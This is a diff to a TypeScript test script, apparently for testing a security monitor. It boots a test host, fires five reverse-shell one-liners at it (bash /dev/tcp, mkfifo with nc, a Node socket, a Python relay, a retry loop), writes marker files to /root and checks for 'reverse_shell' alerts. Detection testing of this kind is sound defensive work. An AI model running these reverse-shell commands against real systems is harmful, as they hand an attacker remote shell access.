@@ -1,5 +1,6 @@
+import { alerts, configure, copyRelease, mustInstall, showAlert, waitForScans } from "./product.ts";
 import { bootHost } from "./testhost.ts";
-import { copyRelease, mustInstall, configure, alerts, showAlert, waitForScans } from "./product.ts";
+
 const host = await bootHost();
 try {
   const attacker = host.address.replace(/2$/, "1");
@@ -10,8 +11,15 @@ try {
   const attacks: [string, number, string][] = [
     ["bash", 4444, `bash -c 'bash -i >& /dev/tcp/${attacker}/4444 0>&1'`],
     ["fifo", 4445, `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${attacker} 4445 >/tmp/f`],
-    ["node", 4446, `node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4446,"${attacker}",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});return /a/;})();'`],
-    ["pyrelay", 4447, `python3 -c '
+    [
+      "node",
+      4446,
+      `node -e '(function(){var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4446,"${attacker}",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});return /a/;})();'`,
+    ],
+    [
+      "pyrelay",
+      4447,
+      `python3 -c '
 import socket,subprocess,threading,time
 s=socket.create_connection(("${attacker}",4447))
 p=subprocess.Popen(["/bin/sh"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)
@@ -25,7 +33,8 @@ while True:
   d=s.recv(1000)
   if not d: break
   p.stdin.write(d);p.stdin.flush()
-'`],
+'`,
+    ],
     ["loop", 4448, `while :; do bash -c 'sh -i >& /dev/tcp/${attacker}/4448 0>&1' && break; done`],
   ];
   for (const [name, port, script] of attacks) {
@@ -36,7 +45,20 @@ while True:
     host.attacker.order({ do: "send", port, text: "echo MARK$((40+2)); id > /root/owned-" + name + "\n" });
     await Bun.sleep(3000);
     const c = host.attacker.conversation(port);
-    console.log(name, "connected", ok, "connections", c.connections, "closed", c.closed, "output", c.received.includes("MARK42"), JSON.stringify(c.received.slice(0, 80)), "owned", (await host.exec(`test -e /root/owned-${name} && echo yes`)).stdout.trim());
+    console.log(
+      name,
+      "connected",
+      ok,
+      "connections",
+      c.connections,
+      "closed",
+      c.closed,
+      "output",
+      c.received.includes("MARK42"),
+      JSON.stringify(c.received.slice(0, 80)),
+      "owned",
+      (await host.exec(`test -e /root/owned-${name} && echo yes`)).stdout.trim(),
+    );
     await host.exec(`systemctl stop atk-${name}`);
   }
   const extra = process.argv[2];
@@ -44,7 +66,9 @@ while True:
   for (const alert of await alerts(host)) console.log(alert.rule.name, alert.count, alert.title, alert.action);
   const first = (await alerts(host)).filter((a) => a.rule.name === "reverse_shell");
   for (const one of [first.at(-1), first.at(0)]) if (one) console.log((await showAlert(host, one.id)).slice(0, 4000));
-  console.log((await host.exec("journalctl -u algo-monitor --no-pager -o cat | grep -aE 'DEV|sensor' | tail -60")).stdout);
+  console.log(
+    (await host.exec("journalctl -u algo-monitor --no-pager -o cat | grep -aE 'DEV|sensor' | tail -60")).stdout,
+  );
   console.log((await host.exec("algo-monitor status")).stdout);
 } finally {
   await host.stop();
